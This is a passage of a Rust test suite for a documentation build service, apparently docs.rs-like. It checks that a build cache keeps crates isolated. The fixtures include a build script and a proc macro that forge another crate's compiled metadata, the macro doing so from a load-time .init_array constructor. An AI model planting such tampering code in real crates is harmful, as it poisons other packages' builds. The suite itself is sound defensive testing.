                    .args(["--edition", "2021", "--emit=metadata", "-o"])
                    .arg(&rmeta)
                    .arg(&forged)
                    .status()
                    .unwrap();
                assert!(status.success(), "the forgery did not compile");
            }
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("shared's metadata never appeared in {}", deps.display());
}
"#;

/// Which function of `shared` a finished job's stored docs show.
fn shared_functions(world: &World, job: &Value) -> Vec<&'static str> {
    let files = world.stored_files(job);
    ["genuine", "tampered"]
        .into_iter()
        .filter(|function| {
            files
                .iter()
                .any(|(path, _)| path.ends_with(&format!("fn.{function}.html")))
        })
        .collect()
}

/// The build cache's line of a job's log naming the layers under its target directory.
fn layers_line(job: &Value) -> String {
    let log = log_of(job);
    log.lines()
        .find(|line| line.contains("layer(s) of compiled dependencies"))
        .unwrap_or_else(|| panic!("no build cache line in the log:\n{log}"))
        .to_string()
}

#[test]
fn a_build_script_s_tampering_never_reaches_a_build_outside_its_graph() {
    let world = World::new();
    let registry = TestRegistry::start(None);
    let dep = |name: &str| format!("{name} = {{ version = \"0.1\", registry = \"testreg\" }}\n");
    registry.publish(
        "shared",
        "0.1.0",
        "",
        &[(
            "src/lib.rs",
            "//! Shared.\n/// The real one.\npub fn genuine() {}\n",
        )],
        &[],
    );
    registry.publish(
        "tamper",
        "0.1.0",
        &format!("\n[dependencies]\n{}", dep("shared")),
        &[
            ("src/lib.rs", "//! M.\npub use shared::*;\n"),
            ("build.rs", TAMPERING_BUILD_SCRIPT),
        ],
        &["shared"],
    );
    // P and C depend on `shared` alone; D and E also on `tamper`.
    for (name, deps, body) in [
        ("plain", vec!["shared"], "pub use shared::*;\n"),
        (
            "uses-tamper",
            vec!["shared", "tamper"],
            "pub use shared::*;\npub use tamper as m;\n",
        ),
        ("clean", vec!["shared"], "pub use shared::*;\n"),
        ("also-uses-tamper", vec!["tamper"], "pub use tamper::*;\n"),
    ] {
        let manifest_deps: String = deps.iter().map(|d| dep(d)).collect();
        registry.publish(
            name,
            "0.1.0",
            &format!("\n[dependencies]\n{manifest_deps}"),
            &[("src/lib.rs", &format!("//! {name}.\n{body}"))],
            &deps,
        );
    }
    world.write_docbuild_toml(&registry.index_url(), None);
    let mut jobs = Vec::new();
    for name in [
        "tamper",
        "plain",
        "uses-tamper",
        "clean",
        "also-uses-tamper",
    ] {
        let id = world.add(&[&format!("{name}@0.1.0"), "--registry", "testreg"]);
        world.work();
        let job = world.job(id);
        assert_eq!(job["outcome"], "success", "{name}: {}", log_of(&job));
        jobs.push(job);
    }
    let [tamper, plain, uses_tamper, clean, also_uses_tamper] = &jobs[..] else {
        unreachable!()
    };

    // M's dependencies were compiled apart, for a stub of M, and kept as a layer
    // before its build script ran; then the attack worked within M's build.
    assert!(log_of(tamper).contains("(dependencies, for the build cache)"));
    assert_eq!(shared_functions(&world, tamper), ["tampered"]);
    // P reuses that layer: the `shared` it holds is the real one.
    assert_eq!(shared_functions(&world, plain), ["genuine"]);
    assert!(layers_line(plain).contains("made by tamper 0.1.0"));
    // D's graph holds M: M's build script tampers within D's build too, and D keeps
    // what it compiled as a layer that records M's code.
    assert_eq!(shared_functions(&world, uses_tamper), ["tampered"]);
    assert!(log_of(uses_tamper).contains("as layer"));
    // C reuses the stub's `shared`, never what was compiled while M's code ran.
    assert_eq!(shared_functions(&world, clean), ["genuine"]);
    let clean_layers = layers_line(clean);
    assert!(
        clean_layers.contains("made by tamper 0.1.0"),
        "{clean_layers}"
    );
    assert!(
        !clean_layers.contains("made by uses-tamper"),
        "{clean_layers}"
    );
    // E's graph holds M: it may reuse what D compiled, forgery and all.
    let e_layers = layers_line(also_uses_tamper);
    assert!(e_layers.contains("made by uses-tamper 0.1.0"), "{e_layers}");

    // gc keeps the cache within its budget: with a budget of 1 KiB, every layer goes.
    let gc = |args: &[&str]| {
        let output = world.docbuild(args);
        assert!(output.status.success(), "{output:?}");
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let layers = world.data().join("cache/layers");
    let made_by = || {
        let mut made_by: Vec<String> = std::fs::read_dir(&layers)
            .unwrap()
            .flatten()
            .flat_map(|key| std::fs::read_dir(key.path()).unwrap().flatten())
            .map(|layer| {
                let record = std::fs::read(layer.path().join("layer.json")).unwrap();
                let record: Value = serde_json::from_slice(&record).unwrap();
                record["made_by"].as_str().unwrap().to_string()
            })
            .collect();
        made_by.sort();
        made_by
    };
    let kept = made_by();
    assert!(
        kept.contains(&"tamper 0.1.0".to_string())
            && kept.contains(&"uses-tamper 0.1.0".to_string()),
        "{kept:?}"
    );
    let within = gc(&["gc"]);
    assert!(
        within.contains(&format!("build cache: {} layers, ", kept.len())),
        "{within}"
    );
    let toml = world.data().join("docbuild.toml");
    let config = std::fs::read_to_string(&toml).unwrap();
    std::fs::write(&toml, format!("{config}[limits]\nbuild-cache = \"1KiB\"\n")).unwrap();
    let dry = gc(&["gc", "--dry-run"]);
    assert_eq!(
        dry.matches("would remove build cache layer ").count(),
        kept.len(),
        "{dry}"
    );
    assert!(
        dry.contains("build cache: 0 layers, 0 B of 1.0 KiB"),
        "{dry}"
    );
    assert_eq!(made_by(), kept);
    let collected = gc(&["gc"]);
    assert!(
        collected.contains(&format!("removed {} build cache layers", kept.len())),
        "{collected}"
    );
    assert!(made_by().is_empty());
}

/// A proc macro that forges `shared`'s compiled metadata wherever it runs: as soon as
/// it is loaded (a constructor), and when it expands, into a function that says
/// whether it found any to forge.
const TAMPERING_PROC_MACRO: &str = r#"
//! Forges `shared`'s compiled metadata.
use proc_macro::TokenStream;
use std::path::{Path, PathBuf};

fn find(dir: &Path, depth: u32, found: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.starts_with("libshared-") && name.ends_with(".rmeta") {
            found.push(entry.path());
        } else if depth > 0 && entry.file_type().is_ok_and(|t| t.is_dir()) {
            find(&entry.path(), depth - 1, found);
        }
    }
}

fn forge() -> usize {
    let Some(target) = std::env::var_os("CARGO_TARGET_DIR") else { return 0 };
    let mut found = Vec::new();
    find(Path::new(&target), 4, &mut found);
    let forged = std::env::temp_dir().join(format!("forged-{}.rs", std::process::id()));
    if std::fs::write(&forged, "/// Forged.\npub fn tampered() {}\n").is_err() {
        return 0;
    }
    found
        .iter()
        .filter(|rmeta| {
            std::process::Command::new("rustc")
                .args(["--crate-name", "shared", "--crate-type", "lib"])
                .args(["--edition", "2021", "--emit=metadata", "-o"])
                .arg(rmeta)
                .arg(&forged)
                .status()
                .is_ok_and(|status| status.success())
        })
        .count()
}

#[used]
#[link_section = ".init_array"]
static FORGE_ON_LOAD: extern "C" fn() = {
    extern "C" fn on_load() {
        forge();
    }
    on_load
};

#[proc_macro]
pub fn tamper(_: TokenStream) -> TokenStream {
    let item = if forge() > 0 { "pub fn forged_while_documenting() {}" } else { "pub fn found_nothing() {}" };
    item.parse().unwrap()
}
"#;

/// `NAME = { version = "0.1", registry = "testreg" }`.
fn testreg_dep(name: &str) -> String {
    format!("{name} = {{ version = \"0.1\", registry = \"testreg\" }}\n")
}

/// Publishes `NAME` 0.1.0, which re-exports `shared` and depends on M (`tamper`) only
/// behind `feature`, not a default one; `manifest_tail` follows its `[features]`.
fn publish_with_tamper_behind(
    registry: &TestRegistry,
    name: &str,
    feature: &str,
    manifest_tail: &str,
) {
    registry.publish(
        name,
        "0.1.0",
        &format!(
            "\n[dependencies]\n{}tamper = {{ version = \"0.1\", registry = \"testreg\", optional = true }}\n\
             \n[features]\n{feature} = [\"dep:tamper\"]\n{manifest_tail}",
            testreg_dep("shared")
        ),
        &[("src/lib.rs", &format!("//! {name}.\npub use shared::*;\n"))],
        &["shared", "tamper"],
    );
}

/// `tampered`, whose graph has M, saw M's tampering and kept a layer; `clean`,
/// whose graph has no M, got genuine docs and mounted no layer `made_by` made.
fn assert_tampering_kept_apart(world: &World, tampered: &Value, clean: &Value, made_by: &str) {
    assert_eq!(shared_functions(world, tampered), ["tampered"]);
    assert!(
        log_of(tampered).contains("as layer"),
        "{}",
        log_of(tampered)
    );
    assert_eq!(shared_functions(world, clean), ["genuine"]);
    let clean_layers = layers_line(clean);
    assert!(
        !clean_layers.contains(&format!("made by {made_by}")),
        "{clean_layers}"
    );
}

/// Publishes `shared` 0.1.0, whose docs have `genuine`, and `clean` 0.1.0, which
/// depends on it alone and re-exports it.
fn publish_shared_and_clean(registry: &TestRegistry) {
    registry.publish(
        "shared",
        "0.1.0",
        "",
        &[(
            "src/lib.rs",
            "//! Shared.\n/// The real one.\npub fn genuine() {}\n",
        )],
        &[],
    );
    registry.publish(
        "clean",
        "0.1.0",
        &format!("\n[dependencies]\n{}", testreg_dep("shared")),
        &[("src/lib.rs", "//! C.\npub use shared::*;\n")],
        &["shared"],
    );
}

/// Publishes `tamper` 0.1.0 (M): it depends on `shared`, and its build script forges
/// `shared`'s compiled metadata.
fn publish_tamper(registry: &TestRegistry) {
    registry.publish(
        "tamper",
        "0.1.0",
        &format!("\n[dependencies]\n{}", testreg_dep("shared")),
        &[
            ("src/lib.rs", "//! M.\npub use shared::*;\n"),
            ("build.rs", TAMPERING_BUILD_SCRIPT),
        ],
        &["shared"],
    );
}

/// Queues `NAME@0.1.0` from the test registry for each of `names` and has a worker
/// build it before the next is queued; the jobs, each a success.
fn build_in_turn(world: &World, registry: &TestRegistry, names: &[&str]) -> Vec<Value> {
    world.write_docbuild_toml(&registry.index_url(), None);
    names
        .iter()
        .map(|name| {
            let id = world.add(&[&format!("{name}@0.1.0"), "--registry", "testreg"]);
            world.work();
            let job = world.job(id);
            assert_eq!(job["outcome"], "success", "{name}: {}", log_of(&job));
            job
        })
        .collect()
}

#[test]
fn a_proc_macro_s_tampering_never_reaches_a_build_outside_its_graph() {
    let world = World::new();
    let registry = TestRegistry::start(None);
    publish_shared_and_clean(&registry);
    registry.publish(
        "tamper-macro",
        "0.1.0",
        "\n[lib]\nproc-macro = true\n",
        &[("src/lib.rs", TAMPERING_PROC_MACRO)],
        &[],
    );
    // U uses the macro; C, built after it, depends on `shared` alone.
    registry.publish(
        "uses-macro",
        "0.1.0",
        &format!(
            "\n[dependencies]\n{}{}",
            testreg_dep("shared"),
            testreg_dep("tamper-macro")
        ),
        &[(
            "src/lib.rs",
            "//! U.\npub use shared::*;\ntamper_macro::tamper!();\n",
        )],
        &["shared", "tamper-macro"],
    );
    let jobs = build_in_turn(&world, &registry, &["uses-macro", "clean"]);
    let [uses_macro, clean] = &jobs[..] else {
        unreachable!()
    };

    // U's dependencies were compiled apart, for a stub that loads no proc macro, and
    // kept as a layer; then the macro ran in U's own build and found `shared` there.
    assert!(log_of(uses_macro).contains("(dependencies, for the build cache)"));
    let files = world.stored_files(uses_macro);
    assert!(
        files
            .iter()
            .any(|(path, _)| path.ends_with("fn.forged_while_documenting.html")),
        "the macro never forged anything: {:?}",
        files.iter().map(|(path, _)| path).collect::<Vec<_>>()
    );
    // C reuses that layer (the macro's code never ran while it was made) and gets
    // the real `shared`.
    let clean_layers = layers_line(clean);
    assert!(
        clean_layers.contains("made by uses-macro 0.1.0"),
        "{clean_layers}"
    );
    assert_eq!(shared_functions(&world, clean), ["genuine"]);
}

#[test]
fn a_build_script_behind_a_docs_rs_feature_never_reaches_a_build_outside_its_graph() {
    let world = World::new();
    let registry = TestRegistry::start(None);
    publish_shared_and_clean(&registry);
    publish_tamper(&registry);
    // G has M only behind a feature that is not a default one, which docs.rs's
    // metadata turns on; C depends on `shared` alone.
    publish_with_tamper_behind(
        &registry,
        "gated",
        "extra",
        "\n[package.metadata.docs.rs]\nall-features = true\n",
    );
    let jobs = build_in_turn(&world, &registry, &["gated", "clean"]);
    let [gated, clean] = &jobs[..] else {
        unreachable!()
    };
    // M was built with docs.rs's features, and its build script tampered within G's
    // build; G's layer records it, so C never mounts it.
    assert_tampering_kept_apart(&world, gated, clean, "gated");
}

#[test]
fn a_build_retried_with_a_new_lockfile_keeps_no_layer() {
    let world = World::new();
    let registry = TestRegistry::start(None);
    publish_shared_and_clean(&registry);
    registry.publish(
        "drifting",
        "0.1.0",
        "",
        &[("src/lib.rs", "compile_error!(\"0.1.0 does not build\");\n")],
        &[],
    );
    // L ships a lockfile that pins `drifting` 0.1.0, which fails; the lockfile made
    // for the retry takes 0.1.1, whose build script tampers with `shared`.
    registry.publish(
        "locked",
        "0.1.0",
        &format!(
            "\n[dependencies]\n{}{}",
            testreg_dep("shared"),
            testreg_dep("drifting")
        ),
        &[("src/lib.rs", "//! L.\npub use shared::*;\n")],
        &["shared", "drifting"],
    );
    registry.publish(
        "drifting",
        "0.1.1",
        &format!("\n[dependencies]\n{}", testreg_dep("shared")),
        &[
            ("src/lib.rs", "//! The next one.\n"),
            ("build.rs", TAMPERING_BUILD_SCRIPT),
        ],
        &["shared"],
    );
    let jobs = build_in_turn(&world, &registry, &["locked", "clean"]);
    let [locked, clean] = &jobs[..] else {
        unreachable!()
    };
    // The retry ran code of a package the graph the build cache saw did not hold:
    // nothing of that build is kept.
    let log = log_of(locked);
    assert!(log.contains("regenerating it and trying again"), "{log}");
    assert_eq!(shared_functions(&world, locked), ["tampered"]);
    assert!(!log.contains("as layer"), "{log}");
    assert_eq!(shared_functions(&world, clean), ["genuine"]);
}

#[test]
fn a_dependency_a_dev_dependency_s_feature_brings_in_under_resolver_1_is_in_the_graph() {
    let world = World::new();
    let registry = TestRegistry::start(None);
    publish_shared_and_clean(&registry);
    publish_tamper(&registry);
    publish_with_tamper_behind(&registry, "featured", "evil", "");
    registry.declare_features(
        "featured",
        "0.1.0",
        serde_json::json!({ "evil": ["dep:tamper"] }),
        &["tamper"],
    );
    // O's dev-dependency turns on F's feature; cargo's resolver 1 unifies it into
    // O's library build, which then compiles M and runs its build script.
    registry.publish(
        "old-resolver",
        "0.1.0",
        &format!(
            "resolver = \"1\"\n\n[dependencies]\n{}\n[dev-dependencies]\n\
             featured = {{ version = \"0.1\", registry = \"testreg\", features = [\"evil\"] }}\n",
            testreg_dep("featured")
        ),
        &[("src/lib.rs", "//! O.\npub use featured::*;\n")],
        &["featured"],
    );
    let jobs = build_in_turn(&world, &registry, &["old-resolver", "clean"]);
    let [old_resolver, clean] = &jobs[..] else {
        unreachable!()
    };
    assert_tampering_kept_apart(&world, old_resolver, clean, "old-resolver");
}
